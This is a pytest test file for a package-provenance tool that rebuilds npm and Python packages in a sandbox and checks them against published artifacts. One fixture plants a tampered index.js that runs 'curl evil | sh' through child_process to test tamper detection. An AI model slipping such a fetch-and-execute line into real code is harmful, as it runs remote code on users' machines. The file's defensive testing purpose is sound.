"""Real rebuilds in the real sandbox: npm pack and python -m build on fixture repositories, compared with a
"published" artifact built outside the sandbox at another time."""

from __future__ import annotations

import gzip
import io
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest

from ossprov.fixtures.world import World
from ossprov.model import Severity
from ossprov.verify.rebuild import Outcome, RebuildOptions, rebuild
from tests.rebuild.conftest import Make, located, package_json, release

pytestmark = pytest.mark.slow

GEN = "const fs=require('fs');fs.mkdirSync('dist',{recursive:true});fs.writeFileSync('dist/index.js','module.exports=42\\n')"
NPM_FIXTURES = {
    "plain": ({"package.json": package_json("plain-pkg"), "index.js": "module.exports = 1\n"}, ""),
    "prepack": ({"package.json": package_json("gen-pkg", scripts={"prepack": "node gen.js"}, files=["dist"]),
                 "gen.js": GEN, ".gitignore": "dist/\n"}, ""),
    "workspace": ({"package.json": package_json("root", private=True, workspaces=["packages/*"]),
                   "packages/ws-pkg/package.json": package_json("ws-pkg", main="lib.js"),
                   "packages/ws-pkg/lib.js": "exports.x = 1\n"}, "packages/ws-pkg"),
}


def _npm_pack(src: Path, dest: Path) -> Path:
    out = subprocess.run(["npm", "pack", "--pack-destination", str(dest)], cwd=src, check=True,
                         capture_output=True, text=True).stdout.strip().splitlines()[-1]
    return dest / out


@pytest.mark.parametrize("fixture", sorted(NPM_FIXTURES))
def test_npm_rebuild(make_repo: Make, tmp_path: Path, fixture: str) -> None:
    files, subdir = NPM_FIXTURES[fixture]
    repo, sha = make_repo(fixture, files)
    name = next(p for p in files if p.endswith("package.json") and p.startswith(subdir))
    pkg = __import__("json").loads(files[name])["name"]
    published = _npm_pack(repo / subdir, tmp_path)
    result = rebuild(located(f"pkg:npm/{pkg}@1.0.0", repo, sha, subdir), published, release("npm", pkg))
    assert result.outcome in (Outcome.BIT_FOR_BIT, Outcome.STABILIZED), (result.reason, result.log_tail)
    assert result.stabilized_equal and not result.findings
    if fixture == "prepack":
        assert (repo / "dist").is_dir()  # our own pack made it; the rebuild made its own in the sandbox


def _tamper_tgz(path: Path, member: str, data: bytes) -> Path:
    with tarfile.open(path) as tar:
        members = [(m, tar.extractfile(m).read() if m.isfile() else b"")  # type: ignore[union-attr]
                   for m in tar.getmembers()]
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as out:
        for m, content in members:
            if m.name == member:
                content, m.size = data, len(data)
            out.addfile(m, io.BytesIO(content))
    tampered = path.with_name("tampered-" + path.name)
    tampered.write_bytes(gzip.compress(raw.getvalue(), mtime=0))
    return tampered


def test_tampered_npm_package_differs_with_high_finding(make_repo: Make, tmp_path: Path) -> None:
    files, _ = NPM_FIXTURES["plain"]
    repo, sha = make_repo("plain", files)
    published = _tamper_tgz(_npm_pack(repo, tmp_path), "package/index.js",
                            b"require('child_process').exec('curl evil | sh'); module.exports = 1\n")
    result = rebuild(located("pkg:npm/plain-pkg@1.0.0", repo, sha), published, release("npm", "plain-pkg"))
    assert result.outcome == Outcome.DIFFERS
    assert [d.path for d in result.differences] == ["index.js"]
    assert [(f.severity, f.path) for f in result.findings] == [(Severity.HIGH, "index.js")]


def test_failing_build_reports_phase_and_log(make_repo: Make, tmp_path: Path) -> None:
    good, _ = NPM_FIXTURES["plain"]
    repo, _ = make_repo("plain", good)
    published = _npm_pack(repo, tmp_path)
    broken, sha2 = make_repo("broken", {**good, "package.json": package_json(
        "plain-pkg", scripts={"prepack": "echo compiler exploded >&2; exit 3"})})
    result = rebuild(located("pkg:npm/plain-pkg@1.0.0", broken, sha2), published, release("npm", "plain-pkg"))
    assert result.outcome == Outcome.BUILD_FAILED and result.failed_phase == "build"
    assert "compiler exploded" in result.log_tail


def test_unbuildable_without_manifest(make_repo: Make, tmp_path: Path) -> None:
    repo, sha = make_repo("empty", {"README": "nothing to build\n"})
    published = tmp_path / "x-1.0.0.tgz"
    published.write_bytes(gzip.compress(b"\0" * 1024))
    result = rebuild(located("pkg:npm/x@1.0.0", repo, sha), published, release("npm", "x"))
    assert result.outcome == Outcome.UNBUILDABLE and "no package.json" in result.reason


def test_unlocated_is_unbuildable(tmp_path: Path) -> None:
    from ossprov.model import LocateResult

    published = tmp_path / "x.tgz"
    published.write_bytes(b"x")
    result = rebuild(LocateResult("pkg:npm/x@1.0.0"), published, release("npm", "x"))
    assert result.outcome == Outcome.UNBUILDABLE and "not located" in result.reason


PY_BACKENDS = {
    "setuptools": ('[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
                   '[project]\nname = "st-fix"\nversion = "1.0"\n[tool.setuptools]\npackages = ["st_fix"]\n',
                   "st_fix"),
    "hatchling": ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
                  '[project]\nname = "hatch-fix"\nversion = "1.0"\n', "hatch_fix"),
    "flit": ('[build-system]\nrequires = ["flit_core>=3.2"]\nbuild-backend = "flit_core.buildapi"\n'
             '[project]\nname = "flit_fix"\nversion = "1.0"\ndescription = "x"\n', "flit_fix"),
}


def _python_build(src: Path, dest: Path) -> list[Path]:
    """The "published" build: outside the sandbox, as root, files touched now, no SOURCE_DATE_EPOCH."""
    for f in src.rglob("*"):
        if ".git" not in f.parts:
            os.utime(f, (time.time() - 12345, time.time() - 12345))
    env = {k: v for k, v in os.environ.items() if k != "SOURCE_DATE_EPOCH"}
    subprocess.run([sys.executable, "-m", "build", "--no-isolation", "--outdir", str(dest), "."], cwd=src,
                   env=env, check=True, capture_output=True)
    return sorted(dest.iterdir())


@pytest.mark.parametrize("backend", sorted(PY_BACKENDS))
def test_pypi_rebuild(make_repo: Make, tmp_path: Path, backend: str, py_index: World) -> None:
    pyproject, module = PY_BACKENDS[backend]
    repo, sha = make_repo(backend, {"pyproject.toml": pyproject, f"{module}/__init__.py": '"""Fixture."""\nX = 1\n',
                                    "README.md": "fixture\n"})
    artifacts = _python_build(repo, tmp_path / "dist")
    assert {a.name.endswith(".whl") for a in artifacts} == {True, False}
    name = pyproject.split('name = "')[1].split('"')[0]
    for published in artifacts:
        result = rebuild(located(f"pkg:pypi/{name}@1.0", repo, sha), published, release("pypi", name, "1.0"))
        assert result.outcome in (Outcome.BIT_FOR_BIT, Outcome.STABILIZED), (published.name, result.reason,
                                                                           result.log_tail, result.differences)
        assert result.recipe and result.recipe.artifact_kind == ("wheel" if published.suffix == ".whl" else "sdist")
        if result.outcome == Outcome.STABILIZED:
            assert result.needed_stabilizers


def test_tampered_wheel_differs(make_repo: Make, tmp_path: Path, py_index: World) -> None:
    import zipfile

    pyproject, module = PY_BACKENDS["hatchling"]
    repo, sha = make_repo("hatch", {"pyproject.toml": pyproject, f"{module}/__init__.py": "X = 1\n"})
    wheel = next(a for a in _python_build(repo, tmp_path / "dist") if a.suffix == ".whl")
    tampered = tmp_path / wheel.name
    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(tampered, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, b"X = 1\nimport os\n" if info.filename.endswith("__init__.py") else data)
    result = rebuild(located("pkg:pypi/hatch-fix@1.0", repo, sha), tampered, release("pypi", "hatch-fix", "1.0"))
    assert result.outcome == Outcome.DIFFERS
    assert any(f.severity == Severity.HIGH and f.path == f"{module}/__init__.py" for f in result.findings)


def test_keep_workdir(make_repo: Make, tmp_path: Path) -> None:
    files, _ = NPM_FIXTURES["plain"]
    repo, sha = make_repo("plain", files)
    result = rebuild(located("pkg:npm/plain-pkg@1.0.0", repo, sha), _npm_pack(repo, tmp_path),
                     release("npm", "plain-pkg"), RebuildOptions(keep_workdir=True, workdir_parent=tmp_path))
    assert result.workdir and (Path(result.workdir) / "build" / "src" / "index.js").is_file()


PUBLISHING = {
    "prepack": "node gen.js",
    "prepublishOnly": "node -e \"require('fs').writeFileSync('MARK-prepublishOnly','')\" && git push --follow-tags",
    "release": "node -e \"require('fs').writeFileSync('MARK-release','')\" && npm publish",
    "version": "node -e \"require('fs').writeFileSync('MARK-version','')\"",
    "postversion": "git push && git push --tags",
    "prepare": "node -e \"require('fs').writeFileSync('MARK-prepare','')\" && npm run release",
}


def test_publish_scripts_are_never_run(make_repo: Make, tmp_path: Path) -> None:
    """A package whose scripts push, publish and version: the rebuild packs it running only the safe lifecycle
    script (prepack), and no marker of the others appears anywhere in the build directory."""
    files = {"package.json": package_json("pub-pkg", scripts=PUBLISHING, files=["dist"]), "gen.js": GEN,
             ".gitignore": "dist/\n"}
    repo, sha = make_repo("pub", files)
    subprocess.run(["node", "gen.js"], cwd=repo, check=True)
    published = subprocess.run(["npm", "pack", "--ignore-scripts", "--pack-destination", str(tmp_path)], cwd=repo,
                               check=True, capture_output=True, text=True).stdout.strip().splitlines()[-1]
    result = rebuild(located("pkg:npm/pub-pkg@1.0.0", repo, sha), tmp_path / published, release("npm", "pub-pkg"),
                     RebuildOptions(keep_workdir=True, workdir_parent=tmp_path))
    assert result.outcome in (Outcome.BIT_FOR_BIT, Outcome.STABILIZED), (result.reason, result.log_tail)
    assert result.recipe and [" ".join(s.argv) for s in result.recipe.steps] == [
        "npm run prepack", "npm pack --ignore-scripts --pack-destination {out}"]
    assert result.workdir and not list(Path(result.workdir).rglob("MARK-*"))
    assert (Path(result.workdir) / "build" / "src" / "dist" / "index.js").is_file()  # prepack did run


def test_progress_reports_each_phase_with_times(make_repo: Make, tmp_path: Path) -> None:
    files, _ = NPM_FIXTURES["plain"]
    repo, sha = make_repo("plain", files)
    events: list[tuple[str, str, float]] = []
    result = rebuild(located("pkg:npm/plain-pkg@1.0.0", repo, sha), _npm_pack(repo, tmp_path),
                     release("npm", "plain-pkg"), progress=lambda *event: events.append(event))
    assert result.outcome in (Outcome.BIT_FOR_BIT, Outcome.STABILIZED)
    names = ["fetch source", "build", "stabilise", "compare"]
    assert [(p, s) for p, s, _ in events] == [(p, s) for p in names for s in ("started", "finished")]
    assert all(t == 0.0 for _, s, t in events if s == "started")
    assert [p for p, _ in result.phases] == names and all(t >= 0 for _, t in result.phases)
    assert dict(result.phases)["build"] == next(t for p, s, t in events if (p, s) == ("build", "finished"))
